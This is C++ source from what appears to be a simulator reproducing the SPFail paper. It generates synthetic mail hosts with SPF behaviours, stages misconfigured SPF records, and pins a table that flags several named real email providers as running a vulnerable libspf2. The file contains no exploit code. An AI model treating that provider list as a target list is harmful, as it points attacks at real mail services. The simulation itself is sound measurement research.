  std::vector<util::IpAddress> addresses;
};

mta::HostProfile Fleet::HostSpec::to_profile() const {
  mta::HostProfile profile;
  profile.address = address;
  profile.accepts_connections = accepts_connections;
  profile.smtp_broken = smtp_broken;
  profile.greylists = greylists;
  profile.validates_spf = validates_spf;
  profile.spf_timing = spf_timing;
  profile.rejects_spf_fail = rejects_spf_fail;
  profile.checks_dmarc = checks_dmarc;
  profile.flaky_spf_rate = flaky ? 0.9 : 0.0;
  profile.behaviors = {primary};
  if (multi_stack) {
    profile.behaviors.push_back(spfvuln::SpfBehavior::RfcCompliant);
  }
  switch (recipients) {
    case Recipients::Any:
      break;
    case Recipients::NobodyReal:
      profile.known_recipients = {"nobody-real"};
      break;
    case Recipients::AdminSet:
      profile.known_recipients = {"postmaster", "abuse", "admin", "info"};
      break;
  }
  profile.rejects_messages = rejects_messages;
  return profile;
}

void Fleet::stage_host(const mta::HostProfile& profile) {
  HostSpec spec;
  spec.address = profile.address;
  spec.accepts_connections = profile.accepts_connections;
  spec.smtp_broken = profile.smtp_broken;
  spec.greylists = profile.greylists;
  spec.validates_spf = profile.validates_spf;
  spec.spf_timing = profile.spf_timing;
  spec.rejects_spf_fail = profile.rejects_spf_fail;
  spec.checks_dmarc = profile.checks_dmarc;
  spec.flaky = profile.flaky_spf_rate > 0.0;
  spec.primary = profile.behaviors.front();
  spec.multi_stack = profile.behaviors.size() > 1;
  if (!profile.known_recipients.empty()) {
    spec.recipients = profile.known_recipients.front() == "nobody-real"
                          ? HostSpec::Recipients::NobodyReal
                          : HostSpec::Recipients::AdminSet;
  }
  spec.rejects_messages = profile.rejects_messages;
  specs_.push_back(spec);
}

Fleet::Fleet(FleetConfig config)
    : config_(config), geo_(util::Rng(config.seed ^ 0x9E01ULL)) {
  config_.mix.validate();
  responder_ = scan::install_test_responder(dns_);
  build();
}

const SenderPolicy& Fleet::sender_policy(std::size_t domain_index) const {
  static const SenderPolicy kUnstaged{};
  if (sender_policies_.empty()) return kUnstaged;
  return sender_policies_.at(domain_index);
}

const AddressInfo& Fleet::info(const util::IpAddress& address) const {
  const auto it = std::lower_bound(
      info_.begin(), info_.end(), address,
      [](const auto& entry, const util::IpAddress& key) {
        return entry.first < key;
      });
  if (it == info_.end() || !(it->first == address)) {
    throw std::out_of_range("no AddressInfo for " + address.to_string());
  }
  return it->second;
}

std::size_t Fleet::spec_index(const util::IpAddress& address) const {
  const auto it = std::lower_bound(
      specs_.begin(), specs_.end(), address,
      [](const HostSpec& spec, const util::IpAddress& key) {
        return spec.address < key;
      });
  if (it == specs_.end() || !(it->address == address)) return specs_.size();
  return static_cast<std::size_t>(it - specs_.begin());
}

mta::MailHost* Fleet::materialise(std::size_t index) const {
  if (!config_.lazy_hosts) return hosts_[index].get();
  const std::lock_guard<std::mutex> lock(lazy_mutex_);
  std::unique_ptr<mta::MailHost>& slot = hosts_[index];
  if (slot == nullptr) {
    const HostSpec& spec = specs_[index];
    // The cast mirrors MailHost's own non-const needs; materialisation is
    // logically const (the host cache is a view of the immutable specs).
    auto* self = const_cast<Fleet*>(this);
    slot = std::make_unique<mta::MailHost>(spec.to_profile(), self->dns_,
                                           clock_, record_cache_.get());
    const auto residual = residuals_.find(spec.address);
    if (residual != residuals_.end()) {
      slot->set_greylist_seen(residual->second.greylist_seen);
      if (residual->second.has_flaky_rng) {
        slot->set_flaky_rng_state(residual->second.flaky_rng);
      }
      slot->set_blacklisted(residual->second.blacklisted);
      if (residual->second.patched) slot->apply_patch();
      residuals_.erase(residual);
    }
  }
  return slot.get();
}

mta::MailHost* Fleet::find_host(const util::IpAddress& address) {
  const std::size_t index = spec_index(address);
  if (index == specs_.size()) return nullptr;
  return materialise(index);
}

const mta::MailHost* Fleet::find_host(const util::IpAddress& address) const {
  const std::size_t index = spec_index(address);
  if (index == specs_.size()) return nullptr;
  return materialise(index);
}

void Fleet::release_host(const util::IpAddress& address) {
  if (!config_.lazy_hosts) return;
  const std::size_t index = spec_index(address);
  if (index == specs_.size()) return;
  const std::lock_guard<std::mutex> lock(lazy_mutex_);
  std::unique_ptr<mta::MailHost>& slot = hosts_[index];
  if (slot == nullptr) return;
  // Pristine hosts (the overwhelming majority) are dropped outright; the
  // rest leave their scanner-visible residue for the next materialisation.
  // A flaky host's RNG cursor advances on every probe, so those always
  // carry residue even with an empty greylist map.
  const bool dirty = !slot->greylist_seen().empty() || slot->blacklisted() ||
                     slot->is_patched() || specs_[index].flaky;
  if (dirty) {
    Residual residual;
    residual.greylist_seen = slot->greylist_seen();
    residual.flaky_rng = slot->flaky_rng_state();
    residual.has_flaky_rng = true;
    residual.blacklisted = slot->blacklisted();
    residual.patched = slot->is_patched();
    residuals_[address] = std::move(residual);
  }
  slot.reset();
}

std::size_t Fleet::live_hosts() const {
  const std::lock_guard<std::mutex> lock(lazy_mutex_);
  std::size_t n = 0;
  for (const auto& host : hosts_) n += host != nullptr;
  return n;
}

std::vector<scan::TargetDomain> Fleet::targets(SetFilter filter) const {
  std::vector<scan::TargetDomain> out;
  out.reserve(target_source(filter).domain_count());
  for (const auto& d : domains_) {
    const bool wanted = filter == SetFilter::All ||
                        (filter == SetFilter::AlexaTopList && d.in_alexa) ||
                        (filter == SetFilter::Alexa1000 && d.in_alexa1000) ||
                        (filter == SetFilter::TwoWeekMx && d.in_mx);
    if (wanted) {
      out.push_back(scan::TargetDomain{
          std::string(d.name),
          std::vector<util::IpAddress>(d.addresses.begin(),
                                       d.addresses.end())});
    }
  }
  return out;
}

namespace {
bool filter_matches(const DomainRecord& d, Fleet::SetFilter filter) {
  return filter == Fleet::SetFilter::All ||
         (filter == Fleet::SetFilter::AlexaTopList && d.in_alexa) ||
         (filter == Fleet::SetFilter::Alexa1000 && d.in_alexa1000) ||
         (filter == Fleet::SetFilter::TwoWeekMx && d.in_mx);
}
}  // namespace

std::size_t Fleet::TargetView::domain_count() const {
  std::size_t n = 0;
  for (const auto& d : fleet_.domains()) n += filter_matches(d, filter_);
  return n;
}

std::size_t Fleet::TargetView::address_upper_bound() const {
  std::size_t n = 0;
  for (const auto& d : fleet_.domains()) {
    if (filter_matches(d, filter_)) n += d.addresses.size();
  }
  return n;
}

void Fleet::TargetView::for_each(
    const std::function<void(std::string_view,
                             std::span<const util::IpAddress>)>& fn) const {
  for (const auto& d : fleet_.domains()) {
    if (filter_matches(d, filter_)) fn(d.name, d.addresses);
  }
}

util::IpAddress Fleet::next_address() {
  // The paper's scan covered "unique IPv4/IPv6 addresses"; a slice of the
  // fleet lives on v6 (sequential 2001:db8::/32 addresses).
  if (++v6_interleave_ % 12 == 0) {
    std::array<std::uint8_t, 16> bytes{};
    bytes[0] = 0x20;
    bytes[1] = 0x01;
    bytes[2] = 0x0d;
    bytes[3] = 0xb8;
    const std::uint32_t value = next_v6_value_++;
    bytes[12] = static_cast<std::uint8_t>(value >> 24);
    bytes[13] = static_cast<std::uint8_t>(value >> 16);
    bytes[14] = static_cast<std::uint8_t>(value >> 8);
    bytes[15] = static_cast<std::uint8_t>(value);
    return util::IpAddress::v6(bytes);
  }
  return util::IpAddress::v4(next_address_value_++);
}

// Create one host; the profile is drawn from the funnel/behaviour rates of
// the set the creating domain belongs to.
util::IpAddress Fleet::new_host(const std::string& tld, bool provider_pool,
                                bool in_alexa, bool in_mx, double rank_pct,
                                util::Rng& rng,
                                std::map<util::IpAddress, AddressInfo>& info) {
  const FunnelRates& rates = in_alexa || !in_mx ? kAlexaRates : kMxRates;

  mta::HostProfile profile;
  profile.address = next_address();

  profile.accepts_connections = !rng.bernoulli(rates.refused);
  profile.validates_spf = false;  // set below for reachable validators
  if (profile.accepts_connections) {
    const double draw = rng.uniform01();
    const double p_fail = rates.smtp_failure;
    const double p_mailfrom = rates.nomsg_measured;
    const double p_unmeasured = 1.0 - p_fail - p_mailfrom;
    const double p_afterdata = p_unmeasured * rates.blank_measured;
    const double p_databroken = p_unmeasured * rates.blank_failure;

    if (draw < p_fail) {
      profile.smtp_broken = true;
      profile.validates_spf = false;
    } else if (draw < p_fail + p_mailfrom) {
      profile.validates_spf = true;
      profile.spf_timing = mta::SpfTiming::AtMailFrom;
    } else if (draw < p_fail + p_mailfrom + p_afterdata) {
      profile.validates_spf = true;
      profile.spf_timing = mta::SpfTiming::AfterData;
    } else if (draw < p_fail + p_mailfrom + p_afterdata + p_databroken) {
      // Accepts the dialog but rejects every recipient: the BlankMsg wave
      // walks the whole ladder and fails, matching Table 3's BlankMsg
      // "SMTP failure" row.
      profile.validates_spf = false;
      profile.known_recipients = {"nobody-real"};
    } else {
      profile.validates_spf = false;
    }
  }

  if (profile.validates_spf) {
    const auto tld_profile = find_tld(tld);
    const double tld_mult =
        tld_profile.has_value() ? tld_profile->vulnerability_multiplier : 1.0;

    const double p_vulnerable = std::min(
        0.90, rates.vulnerable_of_measured * tld_mult * rank_multiplier(rank_pct));
    const double p_erroneous = rates.erroneous_of_measured;

    const double draw = rng.uniform01();
    spfvuln::SpfBehavior primary = spfvuln::SpfBehavior::RfcCompliant;
    if (draw < p_vulnerable) {
      primary = spfvuln::SpfBehavior::VulnerableLibspf2;
    } else if (draw < p_vulnerable + p_erroneous) {
      primary = pick_erroneous(rng);
    }
    profile.behaviors = {primary};

    // §7.9: 6% of measurable hosts show >=2 *distinct* expansion patterns
    // (multiple SMTP hops, spam filters like SpamAssassin/Rspamd). Hosts
    // with a non-compliant primary stack run an additional compliant one
    // with the rate that makes the observed multi-pattern share ~6%:
    // P(multi | erroneous-or-vulnerable) * P(erroneous-or-vulnerable) =
    // 0.26 * ~0.23 = ~0.06.
    if (primary != spfvuln::SpfBehavior::RfcCompliant &&
        rng.bernoulli(config_.mix.multi_stack_rate)) {
      profile.behaviors.push_back(spfvuln::SpfBehavior::RfcCompliant);
    }

    // A sliver of hosts greylist; the scanner's 8-minute backoff absorbs it.
    profile.greylists = rng.bernoulli(config_.mix.greylist_rate);
    // A sizeable share of validators also enforce DMARC (Deccio et al. [3]
    // measured just over half of SPF validators running all three of
    // SPF/DKIM/DMARC) — these reject the blank probe per §6.2's p=reject.
    profile.checks_dmarc = rng.bernoulli(config_.mix.dmarc_check_rate);
    // ~2% of validators are flaky enough that the initial NoMsg+BlankMsg
    // pair usually stays inconclusive — the §6.1 re-measurable cohort.
    if (rng.bernoulli(config_.mix.flaky_rate)) profile.flaky_spf_rate = 0.9;
    // Some hosts only accept administrative mailboxes — the username ladder
    // walks to one of them.
    if (rng.bernoulli(config_.mix.admin_recipient_rate)) {
      profile.known_recipients = {"postmaster", "abuse", "admin", "info"};
    }
    profile.rejects_spf_fail = rng.bernoulli(config_.mix.reject_spf_fail_rate);
  }

  AddressInfo address_info;
  address_info.tld = strings_.view(strings_.intern(tld));
  address_info.provider_pool = provider_pool;
  address_info.in_alexa_set = in_alexa;
  address_info.in_mx_set = in_mx;
  info.emplace(profile.address, address_info);
  geo_.assign(profile.address, tld);

  const util::IpAddress address = profile.address;
  stage_host(profile);
  return address;
}

void Fleet::build_top_providers(util::Rng& rng,
                                std::vector<StagingDomain>& staging,
                                std::map<util::IpAddress, AddressInfo>& info) {
  // Table 3's "Top Email Providers" column (20 domains; Foster et al. [6])
  // with §7.5's vulnerable internationals. Outcomes are pinned, not drawn:
  //   MF  = validates at MAIL FROM (NoMsg-measured; 5 of 20)
  //   AD  = validates after DATA  (BlankMsg-measured; 8 of 20)
  //   SF  = SMTP broken           (NoMsg SMTP failure; 2 of 20)
  //   DB  = data broken           (BlankMsg SMTP failure; 4 of 20)
  //   NS  = no SPF validation     (never measured; 1 of 20)
  struct Provider {
    const char* name;
    const char* kind;        // MF/AD/SF/DB/NS
    bool vulnerable;
    const char* share_pool;  // providers sharing MX infrastructure
    std::size_t rank;
  };
  static constexpr Provider kProviders[] = {
      {"gmail.com", "MF", false, "", 3},
      {"yahoo.com", "MF", false, "", 11},
      {"icloud.com", "MF", false, "", 40},
      {"aol.com", "MF", false, "", 150},
      {"wp.pl", "MF", true, "", 320},
      {"outlook.com", "AD", false, "", 21},
      {"mail.ru", "AD", true, "", 35},
      {"vk.com", "AD", true, "mail.ru", 16},
      {"naver.com", "AD", true, "", 55},
      {"seznam.cz", "AD", true, "", 410},
      {"email.cz", "AD", true, "seznam.cz", 650},
      {"web.de", "AD", false, "", 470},
      {"mac.com", "AD", false, "", 800},
      {"comcast.net", "SF", false, "", 370},
      {"verizon.net", "SF", false, "", 520},
      {"163.com", "DB", false, "", 95},
      {"sina.com.cn", "DB", false, "", 130},
      {"rediffmail.com", "DB", false, "", 710},
      {"gmx.de", "DB", false, "", 560},
      {"qq.com", "NS", false, "", 28},
  };

  std::map<std::string, std::vector<util::IpAddress>> pools;
  for (const Provider& provider : kProviders) {
    StagingDomain record;
    record.name = provider.name;
    record.tld = dns::Name::from_string(provider.name).tld();
    record.in_alexa = true;
    record.in_alexa1000 = true;
    record.alexa_rank = provider.rank;
    record.is_top_provider = true;
    record.provider_name = provider.name;

    if (provider.share_pool[0] != '\0') {
      record.addresses = pools.at(provider.share_pool);
      for (const auto& address : record.addresses) {
        auto& address_info = info.at(address);
        ++address_info.domains_hosted;
        address_info.best_rank =
            address_info.best_rank == 0
                ? provider.rank
                : std::min(address_info.best_rank, provider.rank);
      }
      staging.push_back(std::move(record));
      continue;
    }

    // Big providers run 3–4 MX hosts with one software stack across the farm.
    const std::size_t farm = 3 + rng.uniform(0, 1);
    for (std::size_t i = 0; i < farm; ++i) {
      mta::HostProfile profile;
      profile.address = next_address();
      const std::string_view kind = provider.kind;
      if (kind == "SF") {
        profile.smtp_broken = true;
        profile.validates_spf = false;
      } else if (kind == "DB") {
        profile.validates_spf = false;
        profile.rejects_messages = true;
      } else if (kind == "NS") {
        profile.validates_spf = false;
      } else {
        profile.validates_spf = true;
        profile.spf_timing = kind == "MF" ? mta::SpfTiming::AtMailFrom
                                          : mta::SpfTiming::AfterData;
        profile.behaviors = {provider.vulnerable
                                 ? spfvuln::SpfBehavior::VulnerableLibspf2
                                 : spfvuln::SpfBehavior::RfcCompliant};
        profile.rejects_spf_fail = false;  // providers tag, not reject
      }

      AddressInfo address_info;
      address_info.tld = strings_.view(strings_.intern(record.tld));
      address_info.provider_pool = true;
      address_info.in_alexa_set = true;
      address_info.domains_hosted = 1;
      address_info.best_rank = provider.rank;
      info.emplace(profile.address, address_info);
      geo_.assign(profile.address, record.tld);

      record.addresses.push_back(profile.address);
      stage_host(profile);
    }
    pools.emplace(provider.name, record.addresses);
    staging.push_back(std::move(record));
  }
}

void Fleet::finalise(std::vector<StagingDomain>&& staging,
                     std::map<util::IpAddress, AddressInfo>&& info) {
  // Address metadata: the build map, flattened into a sorted flat array
  // (binary-searched by info(); a node per address would dwarf the payload).
  info_.assign(info.begin(), info.end());
  info.clear();

  // Host storage: specs in address order, hosts_ index-aligned. In eager
  // mode every host is materialised now; lazy slots start empty.
  std::sort(specs_.begin(), specs_.end(),
            [](const HostSpec& a, const HostSpec& b) {
              return a.address < b.address;
            });
  hosts_.resize(specs_.size());
  if (!config_.lazy_hosts) {
    for (std::size_t i = 0; i < specs_.size(); ++i) {
      hosts_[i] = std::make_unique<mta::MailHost>(
          specs_[i].to_profile(), dns_, clock_, record_cache_.get());
    }
  }

  // Domains: one interned copy of each name, one flat pool slice per
  // address list. The pool is reserved exactly, so the spans stay valid.
  std::size_t total_addresses = 0;
  for (const auto& record : staging) total_addresses += record.addresses.size();
  address_pool_.reserve(total_addresses);
  domains_.reserve(staging.size());
  for (const auto& record : staging) {
    DomainRecord d;
    d.name = strings_.view(strings_.intern(record.name));
    d.tld = strings_.view(strings_.intern(record.tld));
    if (!record.provider_name.empty()) {
      d.provider_name = strings_.view(strings_.intern(record.provider_name));
    }
    const std::size_t offset = address_pool_.size();
    address_pool_.insert(address_pool_.end(), record.addresses.begin(),
                         record.addresses.end());
    d.addresses = std::span<const util::IpAddress>(
        address_pool_.data() + offset, record.addresses.size());
    d.alexa_rank = static_cast<std::uint32_t>(record.alexa_rank);
    d.mx_query_count = static_cast<std::uint32_t>(record.mx_query_count);
    d.in_alexa = record.in_alexa;
    d.in_alexa1000 = record.in_alexa1000;
    d.in_mx = record.in_mx;
    d.is_top_provider = record.is_top_provider;
    domains_.push_back(d);
  }
}

void Fleet::build() {
  util::Rng root(config_.seed);
  util::Rng rng_tld = root.fork("tld");
  util::Rng rng_topology = root.fork("topology");
  util::Rng rng_profiles = root.fork("profiles");

  std::vector<StagingDomain> staging;
  std::map<util::IpAddress, AddressInfo> info;

  const auto scaled = [&](std::size_t n) {
    return static_cast<std::size_t>(std::max<long long>(
        1, std::llround(static_cast<double>(n) * config_.scale)));
  };

  const std::size_t n_alexa = scaled(paper::kAlexaTopListDomains);
  const std::size_t n_alexa1000 = scaled(paper::kAlexaTop1000);
  const std::size_t n_mx = scaled(paper::kTwoWeekMxDomains);
  const std::size_t n_overlap = scaled(paper::kMxInAlexaTopList);
  const std::size_t n_mx_in_1000 = scaled(paper::kMxInAlexa1000);

  // TLD samplers: weight vectors over the profile table.
  const auto profiles = tld_profiles();
  std::vector<double> alexa_weights, mx_weights;
  alexa_weights.reserve(profiles.size());
  mx_weights.reserve(profiles.size());
  for (const auto& p : profiles) {
    alexa_weights.push_back(static_cast<double>(p.alexa_count));
    mx_weights.push_back(static_cast<double>(p.mx_count));
  }
  const auto sample_tld = [&](std::vector<double>& weights) -> std::string {
    return std::string(profiles[rng_tld.weighted_index(weights)].tld);
  };

  // --- 1. The 20 top providers occupy part of the Alexa Top 1000 ---
  build_top_providers(rng_topology, staging, info);
  const std::size_t n_providers = staging.size();

  // --- 2. Shared hosting pools (created lazily, Zipf-ish popularity) ---
  struct Pool {
    std::vector<util::IpAddress> addresses;
    std::string tld;
  };
  // Many small hosting pools (~10 domains each) rather than a few mega-pools:
  // the paper's vulnerable-domain/vulnerable-address ratio of 2.6 comes from
  // broad small-scale sharing, and small pools keep domain-level statistics
  // stable across simulation scales. Pools are TLD-homogeneous — a .za
  // domain is hosted on .za infrastructure — which is what lets Table 5's
  // per-TLD patch rates and Figure 3's geography come out of address-level
  // behaviour. The 2-Week MX cohort gets its own pool population.
  std::map<std::string, std::vector<Pool>> alexa_pools, mx_pools;
  auto* active_pools = &alexa_pools;
  // Per-TLD caps proportional to the TLD's weight in the active set.
  std::map<std::string, std::size_t> alexa_caps, mx_caps;
  {
    double alexa_total = 0, mx_total = 0;
    for (const auto& p : profiles) {
      alexa_total += static_cast<double>(p.alexa_count);
      mx_total += static_cast<double>(p.mx_count);
    }
    for (const auto& p : profiles) {
      // Country-code TLDs are served by many small national operators, so
      // they get twice the pool density (fewer domains per pool) — this is
      // what keeps Table 5's per-TLD patch rates statistically stable.
      const double density = p.lat < 900.0 ? 2.0 : 1.0;
      alexa_caps[std::string(p.tld)] = std::max<std::size_t>(
          1, static_cast<std::size_t>(density * scaled(23000) *
                                      static_cast<double>(p.alexa_count) /
                                      alexa_total));
      mx_caps[std::string(p.tld)] = std::max<std::size_t>(
          1, static_cast<std::size_t>(density * scaled(1600) *
                                      static_cast<double>(p.mx_count) /
                                      std::max(1.0, mx_total)));
    }
  }
  auto* active_caps = &alexa_caps;
  // Pool creation probability per shared use, tuned so creation spreads
  // across the whole (rank-ordered) domain walk instead of exhausting the
  // cap at the top of the list: cap / (shared-fraction * set size).
  double create_prob = static_cast<double>(scaled(23000)) /
                       (0.78 * static_cast<double>(n_alexa));
  const auto pick_pool = [&](const std::string& tld, bool in_alexa,
                             bool in_mx, double rank_pct) -> Pool& {
    std::vector<Pool>& pools = (*active_pools)[tld];
    const std::size_t cap = std::max<std::size_t>(1, (*active_caps)[tld]);
    if (pools.empty() ||
        (pools.size() < cap && rng_topology.bernoulli(create_prob))) {
      Pool pool;
      pool.tld = tld;
      const std::size_t size = 1 + rng_topology.uniform(0, 2);
      for (std::size_t i = 0; i < size; ++i) {
        pool.addresses.push_back(new_host(tld, true, in_alexa, in_mx,
                                          rank_pct, rng_profiles, info));
      }
      pools.push_back(std::move(pool));
      return pools.back();
    }
    // Prefer recently created pools: hosting choices are contemporaneous
    // with a domain's rank neighbourhood, which preserves Figure 4's
    // rank-vulnerability gradient through the shared-hosting layer.
    const std::size_t window =
        std::max<std::size_t>(4, pools.size() / 8);
    const std::size_t lo = pools.size() > window ? pools.size() - window : 0;
    return pools[rng_topology.uniform(lo, pools.size() - 1)];
  };

  const double n_alexa_d = static_cast<double>(n_alexa);
  const auto assign_addresses = [&](StagingDomain& record) {
    // Rank percentile: Alexa rank for ranked domains; the 2-Week MX tail
    // sits mid-distribution.
    const double rank_pct =
        record.alexa_rank != 0
            ? static_cast<double>(record.alexa_rank) / n_alexa_d
            : 0.5;
    const std::size_t want =
        record.in_alexa1000
            ? 2 + rng_topology.uniform(0, 2)
            : (rng_topology.bernoulli(0.15) ? 2 : 1);
    // ccTLD mail skews to dedicated national operators; generic TLDs skew
    // to large shared hosting.
    const auto tld_profile = find_tld(record.tld);
    const bool country_tld = tld_profile.has_value() && tld_profile->lat < 900.0;
    const bool shared = rng_topology.bernoulli(country_tld ? 0.62 : 0.82);
    if (shared) {
      Pool& pool =
          pick_pool(record.tld, record.in_alexa, record.in_mx, rank_pct);
      for (std::size_t i = 0; i < want && i < pool.addresses.size(); ++i) {
        record.addresses.push_back(pool.addresses[i]);
      }
    }
    while (record.addresses.size() < want) {
      record.addresses.push_back(new_host(record.tld, false, record.in_alexa,
                                          record.in_mx, rank_pct,
                                          rng_profiles, info));
    }
    for (const auto& address : record.addresses) {
      auto& address_info = info.at(address);
      ++address_info.domains_hosted;
      address_info.in_alexa_set |= record.in_alexa;
      address_info.in_mx_set |= record.in_mx;
      if (record.alexa_rank != 0) {
        address_info.best_rank = address_info.best_rank == 0
                                     ? record.alexa_rank
                                     : std::min(address_info.best_rank,
                                                record.alexa_rank);
      }
    }
  };

  // --- 3. Alexa Top List domains, rank order ---
  std::set<std::size_t> provider_ranks;
  for (std::size_t i = 0; i < n_providers; ++i) {
    provider_ranks.insert(staging[i].alexa_rank);
  }
  staging.reserve(n_alexa + n_mx);
  for (std::size_t rank = 1; rank <= n_alexa; ++rank) {
    if (provider_ranks.count(rank) > 0 && config_.scale >= 0.99) continue;
    StagingDomain record;
    record.tld = sample_tld(alexa_weights);
    record.name = "a" + std::to_string(rank) + "." + record.tld;
    record.in_alexa = true;
    record.in_alexa1000 = rank <= n_alexa1000;
    record.alexa_rank = rank;
    assign_addresses(record);
    staging.push_back(std::move(record));
  }

  // --- 4. 2-Week MX: overlap domains first, then MX-only ---
  // Overlap: existing Alexa domains also observed in the university's email
  // traffic; n_mx_in_1000 of them land inside the Top 1000.
  std::size_t marked = 0, marked_top = 0;
  for (auto& record : staging) {
    if (marked >= n_overlap) break;
    const bool want_top = marked_top < n_mx_in_1000;
    if (record.in_alexa1000 != want_top) continue;
    if (!record.in_alexa || record.in_mx) continue;
    record.in_mx = true;
    record.mx_query_count = 1 + rng_topology.uniform(0, 5000);
    // Note: the overlap domains' *addresses* stay tagged as Alexa hosting;
    // the MX-cohort patching dynamics belong to the dedicated/MX pools.
    ++marked;
    if (record.in_alexa1000) ++marked_top;
  }

  const std::size_t n_mx_only = n_mx > marked ? n_mx - marked : 0;
  active_pools = &mx_pools;
  active_caps = &mx_caps;
  create_prob = static_cast<double>(scaled(1600)) /
                (0.78 * static_cast<double>(std::max<std::size_t>(1, n_mx)));
  for (std::size_t i = 0; i < n_mx_only; ++i) {
    StagingDomain record;
    record.tld = sample_tld(mx_weights);
    record.name = "m" + std::to_string(i + 1) + "." + record.tld;
    record.in_mx = true;
    // The 2-week metric: mostly small counts, a heavy head (Zipf-like).
    record.mx_query_count =
        1 + static_cast<std::size_t>(
                5000.0 / (1.0 + rng_topology.uniform(0, 500)));
    assign_addresses(record);
    staging.push_back(std::move(record));
  }

  finalise(std::move(staging), std::move(info));

  // Scenario staging runs last, from its own fork of the root stream. The
  // three historical lanes above have already been forked, so a baseline
  // build (which skips this entirely) and a scenario build draw identical
  // tld/topology/profiles sequences — the population itself never shifts.
  if (config_.mix.stages_senders()) {
    stage_sender_policies(root.fork("scenario"));
  }
}

void Fleet::stage_sender_policies(util::Rng rng) {
  const PolicyMix& mix = config_.mix;
  sender_policies_.assign(domains_.size(), SenderPolicy{});

  // Staged records live in static zones keyed by TLD origin. Dynamic
  // responders (the measurement apparatus) are matched before zones, so
  // probe traffic cannot be shadowed by anything installed here.
  std::map<std::string, dns::Zone> zones;
  const auto zone_for = [&](std::string_view origin) -> dns::Zone& {
    auto it = zones.find(std::string(origin));
    if (it == zones.end()) {
      it = zones
               .emplace(std::string(origin),
                        dns::Zone(dns::Name::lenient(origin)))
               .first;
    }
    return it->second;
  };

  for (std::size_t i = 0; i < domains_.size(); ++i) {
    const DomainRecord& d = domains_[i];
    SenderPolicy policy;
    policy.publishes_spf = true;

    // Fixed draw count per domain (routing, spf, dkim, dmarc-publish,
    // dmarc-share) so one domain's outcome never shifts a later domain's.
    const double routing_draw = rng.uniform01();
    const double spf_draw = rng.uniform01();
    const double dkim_draw = rng.uniform01();
    const double publish_draw = rng.uniform01();
    const double share_draw = rng.uniform01();

    if (routing_draw < mix.forward_plain_rate) {
      policy.routing = SenderRouting::ForwardPlain;
    } else if (routing_draw < mix.forward_plain_rate + mix.forward_srs_rate) {
      policy.routing = SenderRouting::ForwardSrs;
    } else if (routing_draw < mix.forward_plain_rate + mix.forward_srs_rate +
                                  mix.esp_envelope_rate) {
      policy.routing = SenderRouting::EspEnvelope;
    }
    if (spf_draw < mix.spf_plus_all_rate) {
      policy.spf = SenderSpf::PlusAll;
    } else if (spf_draw < mix.spf_plus_all_rate + mix.spf_broad_cidr_rate) {
      policy.spf = SenderSpf::BroadCidr;
    } else if (spf_draw < mix.spf_plus_all_rate + mix.spf_broad_cidr_rate +
                              mix.spf_long_chain_rate) {
      policy.spf = SenderSpf::LongChain;
    }
    if (dkim_draw < mix.dkim_aligned_rate) {
      policy.dkim = SenderDkim::Aligned;
    } else if (dkim_draw < mix.dkim_aligned_rate + mix.dkim_misaligned_rate) {
      policy.dkim = SenderDkim::Misaligned;
    }
    if (publish_draw < mix.dmarc_publish_rate) {
      policy.publishes_dmarc = true;
      policy.dmarc_pct = static_cast<std::uint8_t>(mix.dmarc_pct);
      if (share_draw < mix.dmarc_reject_share) {
        policy.dmarc_policy = dmarc::Policy::Reject;
      } else if (share_draw <
                 mix.dmarc_reject_share + mix.dmarc_quarantine_share) {
        policy.dmarc_policy = dmarc::Policy::Quarantine;
      }
    }

    // --- publish the staged records ---
    dns::Zone& zone = zone_for(d.tld);
    const dns::Name name = dns::Name::lenient(d.name);
    const util::IpAddress origin_ip = d.addresses.front();
    const std::string orig_mech =
        (origin_ip.is_v4() ? "ip4:" : "ip6:") + origin_ip.to_string();

    switch (policy.spf) {
      case SenderSpf::Normal:
        zone.add(dns::ResourceRecord::txt(name,
                                          "v=spf1 " + orig_mech + " -all"));
        break;
      case SenderSpf::PlusAll:
        zone.add(dns::ResourceRecord::txt(name,
                                          "v=spf1 " + orig_mech + " +all"));
        break;
      case SenderSpf::BroadCidr:
        // A /8 "temporary" allowance that happens to cover the adversary.
        zone.add(dns::ResourceRecord::txt(
            name, "v=spf1 " + orig_mech + " ip4:198.0.0.0/8 -all"));
        break;
      case SenderSpf::LongChain: {
        // include:spfc0 -> spfc1 -> ... -> spfc10: eleven include lookups,
        // one past RFC 7208's limit of ten — every evaluation permerrors.
        zone.add(dns::ResourceRecord::txt(
            name, "v=spf1 include:spfc0." + std::string(d.name) + " -all"));
        for (int link = 0; link < 10; ++link) {
          zone.add(dns::ResourceRecord::txt(
              name.child("spfc" + std::to_string(link)),
              "v=spf1 include:spfc" + std::to_string(link + 1) + "." +
                  std::string(d.name) + " -all"));
        }
        zone.add(dns::ResourceRecord::txt(
            name.child("spfc10"), "v=spf1 " + orig_mech + " -all"));
        break;
      }
    }

    if (policy.dkim == SenderDkim::Aligned) {
      zone.add(dns::ResourceRecord::txt(
          dkim::key_record_name(name, kDkimSelector),
          dkim::key_record_text(dkim_secret_for(d.name))));
    }

    if (policy.publishes_dmarc) {
      dmarc::Record record;
      record.policy = policy.dmarc_policy;
      record.percent = policy.dmarc_pct;
      zone.add(dns::ResourceRecord::txt(name.child("_dmarc"),
                                        dmarc::to_text(record)));
    }

    sender_policies_[i] = policy;
  }

  // Fixed scenario infrastructure: the forwarder pool's and the ESP bounce
  // domain's SPF, and the ESP's (misaligned) DKIM key.
  dns::Zone& infra = zone_for(kScenarioZone);
  infra.add(dns::ResourceRecord::txt(
      dns::Name::lenient(kForwarderDomain),
      "v=spf1 ip4:" + forwarder_address().to_string() + " -all"));
  infra.add(dns::ResourceRecord::txt(
      dns::Name::lenient(kEspBounceDomain),
      "v=spf1 ip4:" + esp_address().to_string() + " -all"));
  dns::Zone& esp = zone_for(kEspSignerDomain);
  esp.add(dns::ResourceRecord::txt(
      dkim::key_record_name(dns::Name::lenient(kEspSignerDomain),
                            kDkimSelector),
      dkim::key_record_text(dkim_secret_for(kEspSignerDomain))));

  for (auto& [origin, zone] : zones) dns_.add_zone(std::move(zone));

  // Receivers a scenario flow can usefully dial. specs_ is address-sorted,
  // so this list is too (the runner's pick is an index hash over it).
  for (const HostSpec& spec : specs_) {
    if (spec.accepts_connections && !spec.smtp_broken && spec.validates_spf &&
        !spec.greylists && !spec.flaky && !spec.rejects_messages &&
        spec.recipients != HostSpec::Recipients::NobodyReal) {
      scenario_receivers_.push_back(spec.address);
    }
  }
}

}  // namespace spfail::population
