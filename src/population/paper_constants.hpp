// Every calibration constant taken from the SPFail paper, with the table,
// figure, or section it came from. The fleet generator and the longitudinal
// patch model consume these; EXPERIMENTS.md records how closely the
// simulation reproduces them.
#pragma once

